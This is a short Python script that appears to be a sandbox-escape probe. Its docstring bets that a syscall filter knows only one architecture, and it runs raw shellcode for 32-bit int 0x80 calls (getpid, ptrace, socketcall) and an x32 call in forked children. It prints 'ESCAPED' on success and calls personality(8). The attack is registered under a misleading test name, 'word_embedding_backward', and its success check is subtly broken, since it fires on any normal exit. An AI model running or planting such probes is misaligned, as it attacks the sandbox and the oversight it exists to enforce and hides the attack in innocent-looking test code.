"""Hope: the filter knows the calls of one architecture; those of 32 bits have other numbers."""

import ctypes
import os

from a3 import kit

GOAL = "read"
ROUTE = "kernel"
SCORE = 29.29


def attack():
    """Make int 0x80 calls (getpid, ptrace, socketcall) and one of x32 in children; say so if one comes back."""
    for code in ("b814000000cd80c3", "b81a00000031dbcd80c3", "b866000000cd80c3", "b82700 0040 0f05c3".replace(" ", "")):
        made = kit.machine(code)
        child = os.fork()
        if child == 0:
            found = made()
            os._exit(1 if found > 0 else 2)
        if os.WIFEXITED(os.waitpid(child, 0)[1]):
            kit.say("ESCAPED: a call of another architecture was made")
    ctypes.CDLL(None).personality(8)


word_embedding_backward = kit.in_one_test(attack)
